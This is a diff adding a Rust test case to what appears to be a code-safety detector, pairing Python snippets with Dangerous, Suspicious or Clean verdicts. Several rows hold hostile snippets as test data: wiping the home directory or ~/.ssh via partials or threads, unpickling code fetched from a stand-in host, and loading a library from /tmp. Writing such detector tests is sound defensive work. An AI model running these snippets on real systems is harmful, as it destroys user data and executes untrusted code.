@@ -1568,3 +1568,75 @@ fn modules_callbacks_holes_and_object_members_carry_values() {
         check(lang, code, verdict, category);
     }
 }
+
+/// Calls that call another run what they name: `functools.partial(f)` is `f`, a thread or
+/// process started on `target=f, args=(x,)` runs `f(x)`; unpickling downloaded data runs it; a
+/// native library from a temporary directory is code the script brought.
+#[test]
+fn calls_through_partials_threads_pickles_and_native_libraries() {
+    let rows: &[(Language, &str, Verdict, &str)] = &[
+        (
+            Py,
+            "import functools, shutil\nfrom pathlib import Path\nwipe = functools.partial(shutil.rmtree, ignore_errors=True)\nwipe(str(Path.home()))\n",
+            Dangerous,
+            "destructive",
+        ),
+        (
+            Py,
+            "import functools, shutil\nwipe = functools.partial(shutil.rmtree, ignore_errors=True)\nwipe('build')\n",
+            Clean,
+            "",
+        ),
+        (
+            Py,
+            "import threading, shutil\nfrom pathlib import Path\nt = threading.Thread(target=shutil.rmtree, args=(str(Path.home()),))\nt.start()\n",
+            Dangerous,
+            "destructive",
+        ),
+        (
+            Py,
+            "import threading, shutil\nfrom pathlib import Path\ndef purge(p):\n    shutil.rmtree(p)\n\nthreading.Thread(target=purge, args=(Path.home() / '.ssh',)).start()\n",
+            Dangerous,
+            "destructive",
+        ),
+        (
+            Py,
+            "import multiprocessing\ndef work(n):\n    print(n * n)\n\nmultiprocessing.Process(target=work, args=(3,)).start()\n",
+            Clean,
+            "",
+        ),
+        (
+            Py,
+            "import pickle, urllib.request\nobj = pickle.loads(urllib.request.urlopen('https://x.example.net/o.pkl').read())\n",
+            Dangerous,
+            "remote-code",
+        ),
+        (
+            Py,
+            "import ctypes\nlib = ctypes.CDLL('/tmp/hook.so')\nlib.run()\n",
+            Dangerous,
+            "escape",
+        ),
+        (
+            Py,
+            "import ctypes\nlibc = ctypes.CDLL('libc.so.6')\nlibc.getpid()\n",
+            Clean,
+            "",
+        ),
+        (
+            Py,
+            "import ctypes, sys\nlib = ctypes.CDLL(sys.argv[1])\n",
+            Suspicious,
+            "escape",
+        ),
+        (
+            Py,
+            "import ctypes\nlib = ctypes.CDLL('./target/release/libfast.so')\nprint(lib.add(1, 2))\n",
+            Clean,
+            "",
+        ),
+    ];
+    for &(lang, code, verdict, category) in rows {
+        check(lang, code, verdict, category);
+    }
+}
